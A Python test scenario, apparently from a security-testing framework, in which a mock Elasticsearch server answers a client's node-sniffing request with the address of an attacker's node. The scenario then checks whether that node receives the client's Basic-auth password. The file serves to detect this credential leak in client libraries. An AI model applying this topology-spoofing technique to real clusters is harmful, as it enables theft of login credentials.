"""C5, C6: a service names the attacker's host among its nodes, and clients log in there."""

import json
from typing import ClassVar

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.http import Elsewhere, Request, Web, answered
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import Scenario

PRODUCT = b"X-Elastic-Product: Elasticsearch"


class _Node(Elsewhere):
    """The attacker's node, which responds to searches."""

    def answer(self, request: Request) -> bytes:
        super().answer(request)
        return found()


class Sniffed(Web):
    """A search engine of one node. Once hostile, it names the attacker's node.

    Attributes:
        elsewhere: The attacker's node; ``kept`` records its requests.
    """

    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = _Node(authority)

    def start(self) -> None:
        """Start both servers."""
        self.elsewhere.start()
        super().start()

    def stop(self) -> None:
        """Stop both servers."""
        super().stop()
        self.elsewhere.stop()

    def answer(self, request: Request) -> bytes:
        """Return the nodes, or a search result."""
        if not request.path.startswith(b"/_nodes"):
            return found()
        address = f"{LOOPBACK}:{self.elsewhere.port}" if self.hostile else f"localhost/{LOOPBACK}:{self.port}"
        node = {"name": "shop", "roles": ["data", "ingest"], "http": {"publish_address": address}}
        return answered(json.dumps({"nodes": {"a": node}}).encode(), headers=(PRODUCT,))


def found() -> bytes:
    """Return the response to a search."""
    hits = {"total": {"value": 1, "relation": "eq"}, "hits": [{"_id": "7", "_source": {"name": "apples"}}]}
    return answered(json.dumps({"took": 1, "timed_out": False, "hits": hits}).encode(), headers=(PRODUCT,))


class Sniffs(Scenario):
    """An app whose client asks the cluster for its nodes."""

    code: ClassVar[str] = "C5"
    attack = "names a node that is not the cluster's, which is sent the password"
    rule = "topology-changed"
    option = "sniff_on_start=True"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return the first node."""
        return Sniffed(authority)

    def work(self) -> None:
        """Search for goods."""
        self.meet()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other node received a login."""
        del got
        assert isinstance(service, Sniffed)
        return any(b"authorization: Basic" in asked for asked in service.elsewhere.kept)
